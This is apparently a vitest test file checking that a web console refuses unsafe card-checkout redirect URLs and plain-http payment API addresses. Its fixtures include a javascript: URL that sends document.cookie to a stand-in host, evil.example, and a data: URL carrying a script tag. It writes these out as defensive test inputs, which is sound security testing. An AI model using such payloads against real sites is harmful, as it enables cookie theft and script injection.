// The card provider's checkout URL goes to the buyer's browser (console-web assigns it to location):
// one that is no https page (javascript:, data:, plain http to another host) let whoever answers for
// the card API, or sits on a plain-http path to it, run script in the console's origin. And the card
// API's secret travels as a Bearer header: its address is https, or http to this machine only, as the
// OpenID issuer's is (review pay).
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ConsoleHarness, type TestAccount, startConsoleHarness } from '../../tests/harness/console-harness.js';

let h: ConsoleHarness;
let root: TestAccount;
let checkoutUrl = 'https://checkout.example.com/c/pay/cs_1';
const card = createServer((req, res) => {
  req.resume();
  req.on('end', () => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ id: 'cs_1', url: checkoutUrl })));
});

beforeAll(async () => {
  h = await startConsoleHarness();
  root = await h.account({ role: 100 });
  await new Promise<void>((r) => card.listen(0, '127.0.0.1', r));
  const port = (card.address() as AddressInfo).port;
  for (const [key, value] of Object.entries({ PaymentComplianceConfirmed: true, CardpayApiAddress: `http://127.0.0.1:${port}`, CardpayApiSecret: 'sk_test', CardpayWebhookSecret: 'whsec', CardpayUnitPrice: '1' })) {
    const res = await h.putOption(root, key, value);
    expect(res.statusCode, `${key}: ${res.body}`).toBe(200);
  }
});

afterAll(async () => {
  await new Promise<void>((r) => card.close(() => r()));
  await h?.close();
});

describe('the card checkout URL handed to the buyer', () => {
  it('an https page is handed on', async () => {
    checkoutUrl = 'https://checkout.example.com/c/pay/cs_1';
    const user = await h.account();
    const res = await h.app.inject({ method: 'POST', url: '/api/user/cardpay/pay', headers: user.auth, payload: { amount: 1 } });
    expect(res.statusCode, res.body).toBe(200);
    expect(JSON.parse(res.body).data.pay_link).toBe(checkoutUrl);
  });

  for (const url of ['javascript:fetch("https://evil.example/?c="+document.cookie)', 'data:text/html,<script>alert(1)</script>', 'not a url at all', 'http://checkout.example.com/c/pay/cs_1', '//evil.example/x']) {
    it(`${url.slice(0, 30)}… is refused, not handed to the buyer`, async () => {
      checkoutUrl = url;
      const user = await h.account();
      const res = await h.app.inject({ method: 'POST', url: '/api/user/cardpay/pay', headers: user.auth, payload: { amount: 1 } });
      expect(res.statusCode, res.body).not.toBe(200);
      expect(res.body).not.toContain(url.slice(0, 20));
      expect(JSON.parse(res.body).success).toBe(false);
    });
  }
});

describe('CardpayApiAddress', () => {
  it('plain http to another host is refused; https and http on loopback are taken', async () => {
    const refused = await h.putOption(root, 'CardpayApiAddress', 'http://card-provider.example.com');
    expect(refused.statusCode, refused.body).toBe(400);
    expect(JSON.parse(refused.body).message).toMatch(/https/);
    expect((await h.putOption(root, 'CardpayApiAddress', 'https://card-provider.example.com')).statusCode).toBe(200);
    const port = (card.address() as AddressInfo).port;
    expect((await h.putOption(root, 'CardpayApiAddress', `http://127.0.0.1:${port}`)).statusCode).toBe(200);
  });
});
